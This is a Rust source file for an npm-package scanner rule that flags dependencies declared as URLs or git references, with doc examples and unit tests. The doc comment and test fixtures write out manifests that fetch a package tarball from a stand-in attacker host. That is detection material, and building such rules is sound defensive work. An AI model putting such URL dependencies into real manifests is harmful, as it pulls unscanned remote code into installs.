use crate::context::PackageContext;
use crate::report::{Confidence, Finding, Severity};
use crate::rule::{Rule, RuleMeta, declare_rule};
use crate::rules::{is_public_ipv4, is_well_known_host, url_host};

declare_rule! {
    /// ### What it does
    /// Reports `dependencies` and `optionalDependencies` that point at a URL or a git reference
    /// instead of a registry version: plain `http://` URLs, raw IP addresses and unknown hosts are
    /// high, other tarball URLs medium, git/GitHub references low.
    ///
    /// ### Why is this bad?
    /// A URL dependency is fetched at install time from wherever the author likes, bypasses the
    /// registry's malware scanning and can change without a new version ("remote dynamic
    /// dependencies", PhantomRaven 2025).
    ///
    /// ### Examples
    /// Incorrect:
    /// ```json
    /// { "dependencies": { "ui-styles": "http://packages.evil.example/ui-styles.tgz" } }
    /// ```
    /// Correct:
    /// ```json
    /// { "dependencies": { "ui-styles": "^1.2.0" } }
    /// ```
    RemoteDependency, "remote-dependency", Install
}

impl Rule for RemoteDependency {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn run_package(&self, package: &PackageContext<'_>, out: &mut Vec<Finding>) {
        let Some(manifest) = package.manifest else {
            return;
        };
        for (kind, name, spec) in &manifest.dependencies {
            if kind == "devDependencies" || kind == "peerDependencies" {
                continue;
            }
            let lower = spec.to_ascii_lowercase();
            let graded = if lower.starts_with("http://") || lower.starts_with("https://") {
                let host = url_host(&lower).unwrap_or_default();
                if lower.starts_with("http://") || is_public_ipv4(host) || !is_well_known_host(host)
                {
                    Some((
                        Severity::High,
                        format!("`{name}` is fetched from `{host}` at install time"),
                    ))
                } else {
                    Some((
                        Severity::Medium,
                        format!("`{name}` is a tarball URL dependency"),
                    ))
                }
            } else if lower.starts_with("git")
                || lower.starts_with("github:")
                || lower.starts_with("gitlab:")
                || lower.starts_with("bitbucket:")
            {
                Some((Severity::Low, format!("`{name}` is a git dependency")))
            } else {
                None
            };
            if let Some((severity, message)) = graded {
                out.push(package.manifest_finding(
                    &Self::META,
                    severity,
                    Confidence::High,
                    spec,
                    message,
                    &format!("\"{name}\": \"{spec}\""),
                ));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, test_rule};

    #[test]
    fn test() {
        let pass = vec![
            Case::Files(vec![(
                "package.json",
                r#"{"dependencies":{"a":"^1.0.0","b":"npm:c@1"}}"#,
            )]),
            Case::Files(vec![(
                "package.json",
                r#"{"devDependencies":{"a":"http://1.2.3.4/a.tgz"}}"#,
            )]),
        ];
        let fail = vec![
            Case::Files(vec![(
                "package.json",
                r#"{"dependencies":{"a":"http://packages.evil.example/a.tgz"}}"#,
            )]),
            Case::Files(vec![(
                "package.json",
                r#"{"optionalDependencies":{"a":"github:user/repo"}}"#,
            )]),
        ];
        test_rule(RemoteDependency::META.name, pass, fail);
    }
}
